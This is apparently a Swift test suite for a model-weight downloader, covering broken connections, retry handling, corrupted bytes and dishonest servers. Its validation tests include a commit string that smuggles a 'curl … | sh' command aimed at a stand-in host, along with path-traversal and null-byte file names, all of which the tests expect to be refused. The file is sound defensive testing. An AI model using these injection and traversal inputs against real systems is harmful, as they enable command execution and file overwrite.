import Foundation
import HadalPull
import HadalStore
import NIOHTTP1
import Synchronization
import TestSupport
import Testing

/// What networks and servers do.
@Suite(.timeLimit(.minutes(15)))
struct TroubleTests {
    private static let weights = "model-00001-of-00002.safetensors"

    @Test func connectionsThatBreakGoOnWhereTheyBroke() async throws {
        let repository = Content.model()
        // Each request for weights brings 20 kB, then the connection breaks.
        let hub = try await FakeHub(repository) { name, request, _ in
            guard repository.large.contains(name) else { return nil }
            return FakeHub.content(repository.files[name]!, request, sent: 20_000) + [.close]
        }
        let site = try PullSite()
        let result = try await site.pull(hub)
        try site.expectWhole(result.manifest, hub)
        let asked = hub.fileRequests.filter { $0.path.hasSuffix(Self.weights) }.compactMap(\.range)
        #expect(Set(asked.map(\.lowerBound)).count == asked.count, "bytes were fetched twice")
        #expect(!site.waits.withLock { $0 }.isEmpty)
    }

    @Test func aServerThatNeverAnswersWellIsGivenUp() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, _, _ in name == Self.weights ? [.close] : nil }
        let site = try PullSite()
        let error = await words { try await site.pull(hub) }
        #expect(error.contains("goes on there"))
        #expect(try site.store.manifests().isEmpty)
        #expect(try site.store.claims().map(\.name) == [FakeHub.repository])
        // What had come is kept.
        let whole = try await FakeHub(repository)
        #expect(
            try await site.pull(whole).fetchedBytes < whole.repository.files.values.reduce(0) { $0 + Int64($1.count) })
    }

    @Test(arguments: [429, 503]) func aBusyServerIsAskedAgainWhenItSays(status: Int) async throws {
        let hub = try await FakeHub(Content.model()) { _, _, count in
            count == 0 ? HTTPStub.text(status, "", [("Retry-After", "7")]) : nil
        }
        let site = try PullSite()
        try site.expectWhole(try await site.pull(hub).manifest, hub)
        #expect(site.waits.withLock { $0 } == [.seconds(7)])
    }

    @Test func aRetryAfterOfHoursIsAnError() async throws {
        let hub = try await FakeHub(Content.model()) { _, _, _ in HTTPStub.text(429, "", [("Retry-After", "7200")]) }
        let site = try PullSite()
        #expect(await words { try await site.pull(hub) }.contains("too many requests"))
        #expect(site.waits.withLock { $0 }.isEmpty)
    }

    @Test func bytesThatChangeOnTheWayAreThrownAwayAndFetchedAgain() async throws {
        let repository = Content.model()
        let wasWrong = Mutex(false)
        let hub = try await FakeHub(repository) { name, request, _ in
            guard name == Self.weights, request.range?.lowerBound == 0,
                wasWrong.withLock({ isDone in
                    defer { isDone = true }
                    return !isDone
                })
            else { return nil }
            var bytes = repository.files[name]!
            bytes[1000] ^= 4
            return FakeHub.content(bytes, request)
        }
        let site = try PullSite()
        try site.expectWhole(try await site.pull(hub).manifest, hub)
    }

    @Test(arguments: ["model-00001-of-00002.safetensors", "config.json"])
    func bytesThatAreAlwaysWrongNeverBecomeAModel(name: String) async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { file, request, _ in
            guard file == name else { return nil }
            var bytes = repository.files[file]!
            bytes[bytes.count - 1] ^= 4
            return FakeHub.content(bytes, request)
        }
        let site = try PullSite()
        let error = await words { try await site.pull(hub) }
        #expect(error.contains(name) && error.contains("other bytes"))
        #expect(try site.store.manifests().isEmpty)
    }

    @Test func aServerThatIgnoresRangesServesToo() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, _ in
            var request = request
            request.headers.remove(name: "Range")
            return FakeHub.content(repository.files[name]!, request)
        }
        let site = try PullSite()
        try site.expectWhole(try await site.pull(hub).manifest, hub)
    }

    @Test func withoutRangesABrokenConnectionBeginsAnew() async throws {
        let repository = Content.model()
        let breaks = Mutex(4)
        let asked = Mutex(0)
        let hub = try await FakeHub(repository) { name, request, _ in
            if name == Self.weights { asked.withLock { $0 += 1 } }
            var request = request
            request.headers.remove(name: "Range")
            let bytes = repository.files[name]!
            let isBroken =
                name == Self.weights
                && breaks.withLock { left in
                    left -= 1
                    return left >= 0
                }
            guard isBroken else { return FakeHub.content(bytes, request) }
            return [.write(HTTPStub.head(200, [("Content-Length", "\(bytes.count)")]) + bytes.prefix(70_000)), .close]
        }
        let site = try PullSite()
        var settings = site.settings()
        settings.connections = 1
        try site.expectWhole(try await site.pull(hub, settings: settings).manifest, hub)
        // One that shows that there are no ranges, three that break, one that brings it.
        #expect(asked.withLock { $0 } == 5)
    }

    @Test func aCommitThatIsNoneIsRefused() async throws {
        for commit in ["a;curl${IFS}evil|sh", "main", "", String(repeating: "a", count: 65)] {
            var repository = Content.model()
            repository.commit = commit
            let hub = try await FakeHub(repository)
            let site = try PullSite()
            #expect(await words { try await site.pull(hub) }.contains("no commit"), "\(commit)")
        }
    }

    /// Content-Length, Content-Range, or the end of the bytes is not what the listing said.
    @Test(arguments: [-1000, 1000]) func aServerThatLiesAboutTheLengthIsToldOff(more: Int) async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, _ in
            guard name == Self.weights else { return nil }
            let bytes = repository.files[name]!
            let other = more < 0 ? Array(bytes.dropLast(-more)) : bytes + Array(repeating: 0, count: more)
            return FakeHub.content(other, request)
        }
        let site = try PullSite()
        let error = await words { try await site.pull(hub) }
        #expect(error.contains(Self.weights) && error.contains("bytes"))
        #expect(try site.store.manifests().isEmpty)
    }

    @Test func moreBytesThanAskedForAreRefused() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, _ in
            guard name == Self.weights, let range = request.range else { return nil }
            let bytes = repository.files[name]!
            let head = HTTPStub.head(
                206,
                [
                    ("Content-Length", "\(range.count + 100)"),
                    ("Content-Range", "bytes \(range.lowerBound)-\(range.upperBound - 1)/\(bytes.count)"),
                ])
            return [.write(head + bytes[range] + Array(repeating: 0, count: 100))]
        }
        let site = try PullSite()
        #expect(await words { try await site.pull(hub) }.contains("sends more"))
    }

    @Test func shorterAnswersThanAskedForAreCompleted() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, _ in
            guard name == Self.weights, let range = request.range else { return nil }
            var short = request
            short.headers.replaceOrAdd(
                name: "Range", value: "bytes=\(range.lowerBound)-\(range.lowerBound + min(range.count, 30_000) - 1)")
            return FakeHub.content(repository.files[name]!, short)
        }
        let site = try PullSite()
        try site.expectWhole(try await site.pull(hub).manifest, hub)
    }

    @Test func aFileThatChangesBetweenTwoRangesIsStartedOver() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, count in
            guard name == Self.weights, count < 3 else { return nil }
            return FakeHub.content(Content.random(repository.files[name]!.count, seed: 9), request, version: "\"0\"")
        }
        let site = try PullSite()
        var settings = site.settings()
        settings.connections = 1
        try site.expectWhole(try await site.pull(hub, settings: settings).manifest, hub)
        // Three pieces of the old state, one that tells of the new one, and its five.
        #expect(hub.fileRequests.filter { $0.path.hasSuffix(Self.weights) }.count == 9)
    }

    @Test func aFileThatNeverStaysTheSameIsAnError() async throws {
        let repository = Content.model()
        let hub = try await FakeHub(repository) { name, request, count in
            name == Self.weights ? FakeHub.content(repository.files[name]!, request, version: "\"\(count)\"") : nil
        }
        let site = try PullSite()
        #expect(await words { try await site.pull(hub) }.contains("keeps changing"))
    }

    @Test func refusalsSayWhatToDo() async throws {
        let site = try PullSite()
        for (status, advice) in [(401, "HF_TOKEN"), (403, "licence"), (404, "no such repository")] {
            let server = try await HTTPStub { _ in HTTPStub.text(status, #"{"error":"No\nway"}"#) }
            let source = try ModelSource(server.url, environment: [:])
            let error = await words {
                _ = try await ModelPull(store: site.store, source: source, settings: site.settings())
                    .run(try ModelReference(FakeHub.repository))
            }
            #expect(error.contains("\(status) (No way)") && error.contains(advice), "\(error)")
            #expect(server.requests.count == 1)
        }
    }

    @Test func anUnknownHostAndAClosedPortSayWhatToDo() async throws {
        let site = try PullSite()
        for (address, advice) in [("http://hub.invalid", "HTTPS_PROXY"), ("http://127.0.0.1:1", "does not answer")] {
            let source = try ModelSource(address, environment: [:])
            let error = await words {
                _ = try await ModelPull(store: site.store, source: source, settings: site.settings())
                    .run(try ModelReference(FakeHub.repository))
            }
            #expect(error.contains(advice), "\(error)")
        }
    }

    @Test(arguments: [
        "../evil.safetensors", "/etc/evil.safetensors", "a/../../evil.safetensors", "a\u{0}.safetensors",
        "a\\..\\evil.safetensors", "\u{202E}a.safetensors", String(repeating: "x", count: 300) + ".safetensors",
    ])
    func hostileFileNamesAreRefused(name: String) async throws {
        var repository = Content.model()
        repository.files[name] = [1, 2, 3]
        let hub = try await FakeHub(repository)
        let site = try PullSite()
        await #expect(throws: StoreError.self) { try await site.pull(hub) }
        #expect(!FileManager.default.fileExists(atPath: site.store.directory))
    }

    @Test(arguments: [
        "[]", "{}", "no JSON", #"{"sha":"../x","siblings":[]}"#, #"{"sha":"abc","siblings":[{"rfilename":"a"}]}"#,
        #"{"sha":"abc","siblings":[{"rfilename":"a.safetensors","size":-5}]}"#,
        #"{"sha":"abc","siblings":[{"rfilename":"model.safetensors","size":5},{"rfilename":"model.safetensors","size":5}]}"#,
        #"{"sha":"abc","siblings":[{"rfilename":"a.safetensors","size":9000000000000000000}]}"#,
    ])
    func listingsThatAreNoneAreRefused(text: String) async throws {
        let server = try await HTTPStub { _ in HTTPStub.text(200, text) }
        let site = try PullSite()
        let source = try ModelSource(server.url, environment: [:])
        await #expect(throws: PullError.self) {
            try await ModelPull(store: site.store, source: source, settings: site.settings())
                .run(try ModelReference(FakeHub.repository))
        }
    }
}
